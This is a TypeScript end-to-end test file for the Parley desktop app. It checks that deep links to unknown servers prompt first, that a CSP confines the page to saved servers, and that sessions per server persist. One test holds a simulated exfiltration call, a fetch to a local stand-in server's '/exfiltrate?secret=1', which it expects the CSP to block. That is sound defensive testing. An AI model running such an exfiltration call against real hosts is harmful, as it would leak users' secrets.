// The desktop app and the servers it trusts, whole (the desktop-app harness, real team servers):
// a parley:// link to a server never used asks first and talks to nobody until then; the page's
// CSP lets it reach only the saved servers; a second server gets its own session, and going back
// to the first one finds the person still signed in; links off the team's servers are asked about
// in main's own dialog.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import type { DesktopApi } from '@contracts/desktop';
import { launchBrowser, type TestBrowser } from '../support/browser';
import { launchDesktopApp, type DesktopApp } from '../support/desktop-app/launch';
import { APP_STAND_IN_ORIGIN } from '../support/desktop-app/origins';
import { startStack, type TestStack } from '../support/stack';
import { PASSWORD, setupAdmin } from '../support/team-api';
import { prepare, shoot } from './meeting-support';

let team: TestStack;
let other: TestStack;
let browser: TestBrowser;
let app: DesktopApp;
let desk: Page;
/** A server the person never used, counting every request that reaches it. */
let stranger: Server;
let strangerOrigin: string;
const strangerRequests: string[] = [];
/** The page's window as the preload left it. */
type Bridged = Window & { parley?: DesktopApi };

const deepLink = (url: string): void => {
  app.fake.app.emit('second-instance', {}, ['/usr/bin/parley', url], process.cwd());
};

beforeAll(async () => {
  team = await startStack({ corsOrigins: [APP_STAND_IN_ORIGIN] });
  const ada = await setupAdmin(team, 'ada');
  await ada.api.createRoom({ name: 'standup', title: 'Standup', options: { allowGuests: false, lobby: false } });
  // The second server chose a name that looks like someone else's: the app shows its origin first.
  other = await startStack({ corsOrigins: [APP_STAND_IN_ORIGIN], serverName: 'Acme (official)' });
  const bob = await setupAdmin(other, 'bob');
  await bob.api.createRoom({ name: 'retro', title: 'Retro', options: { allowGuests: false, lobby: false } });
  stranger = createServer((request, response) => {
    strangerRequests.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'application/json', 'access-control-allow-origin': '*' });
    response.end(JSON.stringify({ name: 'Acme', version: '0.1.0', livekitUrl: 'ws://127.0.0.1:9', setupDone: true, features: [] }));
  });
  await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
  strangerOrigin = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
  browser = await launchBrowser();
  app = await launchDesktopApp({ browser: browser.browser, serverUrl: team.url });
  desk = await app.mainPage();
  await prepare(desk);
  await desk.reload();
});

afterAll(async () => {
  await app?.close();
  await browser?.close();
  await new Promise((resolve) => stranger?.close(resolve));
  await other?.teardown();
  await team?.teardown();
});

describe('the desktop app and its team servers', () => {
  it('signs in to the team server, whose address the sign-in screen shows first', async () => {
    await expect.poll(() => desk.getByTestId('server-origin').textContent(), { timeout: 30_000 }).toBe(team.url);
    await desk.getByLabel('Username').fill('ada');
    await desk.getByLabel('Password').fill(PASSWORD);
    await desk.getByRole('button', { name: 'Sign in' }).click();
    await desk.getByRole('heading', { name: 'Rooms' }).waitFor({ timeout: 30_000 });
  });

  it('reaches nothing but its saved servers: a script in the page cannot fetch from anywhere else', async () => {
    const outcome = await desk.evaluate(async (url) => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
      const result = await fetch(`${url}/exfiltrate?secret=1`).then(
        () => 'fetched',
        () => 'blocked',
      );
      await new Promise((resolve) => setTimeout(resolve, 0));
      return { result, violations };
    }, strangerOrigin);
    expect(outcome.result).toBe('blocked');
    expect(outcome.violations).toContain('connect-src');
    expect(strangerRequests).toEqual([]);
  });

  it('a link to a server never used asks first, showing its origin, and talks to nobody; Cancel stays put', async () => {
    deepLink(`parley://join/${encodeURIComponent(strangerOrigin)}/standup`);
    const question = desk.getByRole('dialog', { name: 'Open a new team server?' });
    await question.waitFor({ timeout: 30_000 });
    expect(await question.getByTestId('link-origin').textContent()).toBe(strangerOrigin);
    expect(await question.getByTestId('link-question').textContent()).toMatch(
      new RegExp(
        `This link opens a meeting on ${strangerOrigin.replace(/[.:/]/g, '\\$&')}\\s+It is a server you have not used before\\.\\s+Only continue if you trust it\\.`,
      ),
    );
    // The safe answer has the focus.
    expect(await desk.evaluate(() => document.activeElement?.textContent?.trim())).toBe('Cancel');
    await shoot(desk, 'link-to-new-server.png');
    expect(strangerRequests).toEqual([]);
    await question.getByRole('button', { name: 'Cancel' }).click();
    await question.waitFor({ state: 'detached' });
    await desk.getByRole('heading', { name: 'Rooms' }).waitFor();
    expect(strangerRequests).toEqual([]);
  });

  it('Continue on a link to another team server: its own sign-in, the origin first and its chosen name second, then the room', async () => {
    deepLink(`parley://join/${encodeURIComponent(other.url)}/retro`);
    const question = desk.getByRole('dialog', { name: 'Open a new team server?' });
    await question.getByRole('button', { name: 'Continue' }).click({ timeout: 30_000 });
    // The page loads again (its CSP now allows that server), and signs in there.
    await expect.poll(() => desk.getByTestId('server-origin').textContent(), { timeout: 30_000 }).toBe(other.url);
    expect(await desk.getByTestId('server-name').textContent()).toBe('This server calls itself “Acme (official)”');
    await shoot(desk, 'signin-new-server.png');
    await desk.getByLabel('Username').fill('bob');
    await desk.getByLabel('Password').fill(PASSWORD);
    await desk.getByRole('button', { name: 'Sign in' }).click();
    // The room the link asked for, after the reload.
    await desk.getByLabel('Your camera preview').waitFor({ timeout: 30_000 });
    await desk.getByRole('button', { name: 'Back to rooms' }).click();
    await desk.locator('[data-room="retro"]').waitFor({ timeout: 30_000 });
  });

  it('switching back finds the first server’s session as it was: no second sign-in', async () => {
    await desk.getByRole('button', { name: 'Switch server' }).click();
    const saved = desk.getByRole('group', { name: 'Your team servers' });
    await saved.getByRole('button', { name: team.url }).click();
    await desk.locator('[data-room="standup"]').waitFor({ timeout: 30_000 });
    await desk.getByRole('button', { name: 'Switch server' }).click();
    await saved.getByRole('button', { name: other.url }).click();
    await desk.locator('[data-room="retro"]').waitFor({ timeout: 30_000 });
  });

  it("a link off the team's servers opens only after the person says so in main's dialog", async () => {
    const asked = desk.evaluate(() => (window as Bridged).parley?.app.openExternal('https://docs.example.test/help'));
    const question = await app.fake.dialog.next();
    expect(question.options.message).toBe('Open https://docs.example.test in your browser?');
    question.answer('Cancel');
    await asked;
    expect(app.fake.openedExternally).toEqual([]);
    // The team's own link opens without a question.
    await desk.evaluate((url) => (window as Bridged).parley?.app.openExternal(`${url}/`), other.url);
    expect(app.fake.openedExternally).toEqual([`${other.url}/`]);
    expect(app.fake.dialog.shown).toHaveLength(1);
  });
});
